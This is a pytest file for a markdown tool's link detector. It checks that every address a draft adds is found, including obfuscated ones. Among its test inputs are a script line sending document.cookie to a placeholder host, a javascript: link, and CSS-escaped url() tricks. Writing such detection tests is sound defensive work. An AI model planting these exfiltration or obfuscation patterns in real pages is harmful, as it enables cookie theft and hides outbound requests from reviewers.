"""No address slips into a draft unseen."""

import pytest

from redraft.markdown import links_added


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("[a](https://x.org 'T') ![i](<b c.png>)", ["https://x.org", "b c.png"]),
        ("[a][r] and ![i][R]\n\n[r]: /ref", ["/ref"]),
        ("[unused]: https://x.org/1", ["https://x.org/1"]),
        ("<https://x.org> <mail@x.org>", ["https://x.org", "mailto:mail@x.org"]),
        ("see https://x.org/a_(b). www.y.org, ftp://z", ["https://x.org/a_(b", "www.y.org", "ftp://z"]),
        ("<img src=a.png srcset='b.png 1x, c.png 2x'>", ["a.png", "b.png", "c.png"]),
        ("<div style=\"background: url('https://x.org/t.gif')\">", ["https://x.org/t.gif"]),
        ("text <a HREF = 'j&amp;k'>x</a>", ["j&k"]),
        ("<img src='https://x.org/open\n\ntext", ["https://x.org/open"]),
        ("![i](data:image/png;base64,AA)", ["data:image/png;base64,AA"]),
        ("[j](javascript:alert(1))", ["javascript:alert(1)"]),
        ("---\nimage: https://x.org/a.png\n---\n", ["https://x.org/a.png"]),
        ("a[^1]\n\n[^1]: note", []),
        ("a[^1]\n\n[^1]: https://x.org", ["https://x.org"]),
        ("[^1]: see [a](b)", ["b"]),
        ("| [a](b) |\n|---|\n| ![c](d) |", ["b", "d"]),
        ("`[a](b)`\n\n    https://x.org\n\n\\[a](b)", []),
        ("[a]()", [""]),
        ("> - [a](b)", ["b"]),
        ('<meta http-equiv="refresh" content="0; url=/x">', ["/x"]),
        ('<meta property="og:image" content="https://x.org/a.png">', ["https://x.org/a.png"]),
        ('<meta name="description" content="No address here">', []),
        ("<img srcset='//x.org/a, //x.org/b 2x'>", ["//x.org/a", "//x.org/b"]),
        ("<link rel=preload imagesrcset='//x.org/a 1.5x'>", ["//x.org/a"]),
        ("<img lowsrc=a longdesc='b' dynsrc=\"c\">", ["a", "b", "c"]),
        ("<a ping='https://x.org/p'>", ["https://x.org/p"]),
        ("<iframe srcdoc='&lt;img src=&quot;//x.org/1&quot;&gt;'>", ["//x.org/1"]),
        ("<style>@import '//x.org/a.css'; p { color: red }</style>", ["//x.org/a.css"]),
        ("<p style='background: u\\72l(//x.org/1)'>", ["//x.org/1"]),
        ("<p style=\"background: image-set('//x.org/1' 1x)\">", ["//x.org/1"]),
        ("<script>\n// a remark\nfetch('//x.org/' + document.cookie)\n</script>", ["//x.org/"]),
        ("<b onclick=\"location='//x.org'\">", ["//x.org"]),
        ("<!-- <img src=//x.org> -->", ["//x.org"]),
        ("&#104;ttps://x.org", ["https://x.org"]),
    ],
)  # fmt: skip
def test_every_kind_of_address_is_found(text: str, links: list[str]) -> None:
    assert links_added("", text) == links


def test_only_what_the_draft_did_not_have_is_named_once() -> None:
    assert links_added("[a](x)", "[a](x) ![b](y) [c](y)") == ["y"]
    assert links_added("[a](x)", "![a](x) moved") == []
